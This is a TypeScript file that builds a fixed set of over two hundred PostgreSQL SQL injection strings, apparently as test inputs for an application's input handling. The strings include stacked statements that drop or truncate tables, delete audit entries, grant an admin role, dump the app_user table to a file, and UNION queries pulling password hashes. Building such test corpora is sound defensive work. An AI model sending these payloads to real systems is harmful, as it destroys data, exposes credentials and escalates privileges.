/** What turns a text into SQL where texts are put into it: conditions, unions, delays, errors that tell, second statements. */
const CORES = [
  ...['1=1', "'1'='1'", "'a' LIKE '%'", 'true', 'NOT false', '1 IN (1)', 'EXISTS (SELECT 1)'],
  ...[
    '(SELECT count(*) FROM app_user) > 0',
    '(SELECT pg_sleep(3)) IS NULL',
    'version() IS NOT NULL',
  ],
  ...["(SELECT current_setting('is_superuser')) = 'off'", 'CAST(version() AS int) = 1', '1 = 1/0'],
  ...[
    "(SELECT password_hash FROM app_user LIMIT 1) > ''",
    "has_table_privilege('app_user', 'select')",
  ],
  ...['ascii(substr(current_user, 1, 1)) > 1', 'length(current_database()) > 0', 'random() < 2'],
];
const STATEMENTS = [
  ...[
    'DROP TABLE reservation',
    'DELETE FROM audit_entry',
    "UPDATE membership SET role = 'bureau_admin'",
  ],
  ...[
    'SELECT pg_sleep(3)',
    'TRUNCATE voucher CASCADE',
    "SET app.scope = '*'",
    'ROLLBACK',
    'COMMIT',
  ],
  ...["COPY app_user TO '/tmp/x'", 'SELECT pg_terminate_backend(pg_backend_pid())'],
];
const UNIONS = [
  ...[
    'SELECT NULL',
    'SELECT NULL, NULL',
    'SELECT password_hash FROM app_user',
    'SELECT 1, 2, 3, 4, 5',
  ],
  ...['SELECT table_name FROM information_schema.tables', 'ALL SELECT current_user, version()'],
];
/** Ways out of a quotation, of parentheses, of a pattern, of an array or of a dollar quotation. */
const EXITS = ["'", "')", "'))", '"', "\\'", "%'", "'}'", '$$', '', "''"];
/** Ways to make nothing of the rest of a statement. */
const ENDS = [' --', ' /*', ' ;--', " AND ''='", '\n--'];

/** Signs that mean something to SQL, its patterns or its types by themselves. */
const SIGNS = [
  ...[
    "'",
    "''",
    '"',
    '\\',
    "\\'",
    '%',
    '_',
    '%%',
    '$1',
    '$$',
    ':x',
    ';',
    '--',
    '/*',
    '*/',
    '{}',
    '[]',
  ],
  ...[
    'NULL',
    'DEFAULT',
    'infinity',
    'NaN',
    '1e400',
    "E'\\x00'",
    "U&'\\0000'",
    '::text',
    "'||'",
    '||',
    '\u02bc OR 1=1',
  ],
  ...['＇ OR １=１', '%27%20OR%201=1', "x' AND 1=(SELECT 1)", '${1+1}', '{{1}}', "') OR ('x'='x"],
];

/** More than two hundred of them, the same every time. */
export const SQL_PAYLOADS: readonly string[] = [
  ...CORES.flatMap((core, at) =>
    [0, 3, 7].map(
      (step) =>
        `x${EXITS[(at + step) % EXITS.length]} OR ${core}${ENDS[(at + step) % ENDS.length]}`,
    ),
  ),
  ...STATEMENTS.flatMap((statement, at) =>
    [0, 1, 2, 5, 7, 8].map(
      (step) =>
        `x${EXITS[(at + step) % EXITS.length]}; ${statement};${ENDS[(at + step) % ENDS.length]}`,
    ),
  ),
  ...UNIONS.flatMap((union, at) =>
    [0, 1, 2, 4, 6, 8].map(
      (step) =>
        `x${EXITS[(at + step) % EXITS.length]} UNION ${union}${ENDS[(at + step) % ENDS.length]}`,
    ),
  ),
  ...EXITS.flatMap((exit) => ENDS.map((end) => `${exit}${end.trim() || ' '}`)),
  ...SIGNS,
];
